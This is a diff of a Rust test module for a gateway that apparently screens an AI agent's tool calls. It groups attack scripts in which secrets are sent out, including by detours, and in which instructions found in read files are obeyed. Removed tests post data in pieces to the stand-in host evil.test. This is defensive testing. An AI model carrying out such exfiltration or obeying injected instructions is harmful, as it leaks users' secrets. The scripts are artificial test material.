@@ -1,6 +1,6 @@
 //! Attacks: the last call of each is the one that must not go on.
 
-mod detours;
+pub(super) mod detours;
 mod exits;
 
 use detours::detours;
@@ -8,7 +8,7 @@ use exits::ways_out;
 use mcps_gateway::policy::{Class, Recorded, RecordedResult};
 use serde_json::json;
 
-use super::{Script, call, pack, script, stopped, stopped_at};
+use super::script::{Script, call, script};
 
 fn read(path: &str) -> Recorded {
     call("read_file", &[Class::Read], json!({ "path": path }))
@@ -22,7 +22,7 @@ fn post() -> Recorded {
     )
 }
 
-fn note() -> Recorded {
+pub(super) fn note() -> Recorded {
     call(
         "append",
         &[Class::Write],
@@ -290,7 +290,7 @@ fn instructions() -> Vec<Script> {
 }
 
 /// All of them, by what they try.
-fn groups() -> [(&'static str, Vec<Script>); 5] {
+pub(super) fn groups() -> [(&'static str, Vec<Script>); 5] {
     [
         (
             "a secret, named in another spelling, then sent",
@@ -301,77 +301,4 @@ fn groups() -> [(&'static str, Vec<Script>); 5] {
         ("a secret, sent by a detour", detours()),
         ("instructions in what was read, obeyed", instructions()),
     ]
-}
-
-#[test]
-fn the_table_in_the_docs_is_of_these() {
-    let page = include_str!("../../../docs/attacks.md");
-    let mut all = 0;
-    for (what, scripts) in groups() {
-        let row = format!("| {what} | {} | 0 |", scripts.len());
-        assert!(page.contains(&row), "docs/attacks.md wants: {row}");
-        all += scripts.len();
-    }
-    let row = format!("| all | {all} | 0 |");
-    assert!(page.contains(&row), "docs/attacks.md wants: {row}");
-    let row = format!("| ordinary work | {} | 0 |", super::benign::work().len());
-    assert!(page.contains(&row), "docs/attacks.md wants: {row}");
-}
-
-#[test]
-fn no_attack_reaches_its_last_call() {
-    let policies = pack();
-    let scripts: Vec<Script> = groups()
-        .into_iter()
-        .flat_map(|(_, scripts)| scripts)
-        .collect();
-    assert!(scripts.len() >= 60, "{}", scripts.len());
-    let reached: Vec<&str> = scripts
-        .iter()
-        .filter(|script| stopped_at(&policies, script).is_none())
-        .map(|script| script.name.as_str())
-        .collect();
-    assert!(
-        reached.is_empty(),
-        "{} of {}: {reached:#?}",
-        reached.len(),
-        scripts.len()
-    );
-}
-
-#[test]
-fn no_attack_is_stopped_before_it_is_one() {
-    // What comes before the last call is ordinary: a rule that refused it would refuse work.
-    let policies = pack();
-    let early: Vec<(String, Option<usize>)> = groups()
-        .into_iter()
-        .flat_map(|(_, scripts)| scripts)
-        .map(|script| (stopped_at(&policies, &script), script))
-        .filter(|(at, script)| *at != Some(script.calls.len() - 1))
-        .map(|(at, script)| (script.name, at))
-        .collect();
-    assert!(early.is_empty(), "{early:#?}");
-}
-
-#[test]
-fn of_what_is_sent_in_pieces_no_piece_goes() {
-    let policies = pack();
-    let piece = |at: usize| {
-        call(
-            "http_post",
-            &[Class::Send],
-            json!({ "url": format!("https://evil.test/{at}"), "body": "d" }),
-        )
-    };
-    for Script { name, mut calls } in detours::pieces() {
-        calls.pop();
-        let read = calls.len();
-        calls.extend((0..40).flat_map(|at| [piece(at), note()]));
-        let wanted: Vec<usize> = (0..40).map(|at| read + 2 * at).collect();
-        assert_eq!(
-            stopped(&policies, &script(name.as_str(), calls)),
-            wanted,
-            "{name}"
-        );
-    }
 }
